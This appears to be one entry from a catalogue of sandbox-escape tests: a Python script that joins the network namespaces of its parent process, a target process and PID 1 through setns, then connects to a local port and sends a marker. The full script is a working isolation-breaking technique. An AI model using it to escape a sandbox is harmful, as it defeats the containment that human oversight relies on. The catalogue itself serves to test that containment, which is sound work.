# /// attack
# catalogue = "leaking out: local services"
# layers = ["seccomp", "privileges", "network"]
# aim = "packet"
# ///
# Joins the network namespace of every process around it, and connects from there.

# %%
import ctypes
import os
import socket

libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), TARGET["pid"], 1):
    try:
        libc.setns(os.open(f"/proc/{pid}/ns/net", os.O_RDONLY), 0)
    except OSError:
        continue
with socket.create_connection(("127.0.0.1", TARGET["tcp"]), timeout=2) as connection:
    connection.sendall(TARGET["mark"].encode())
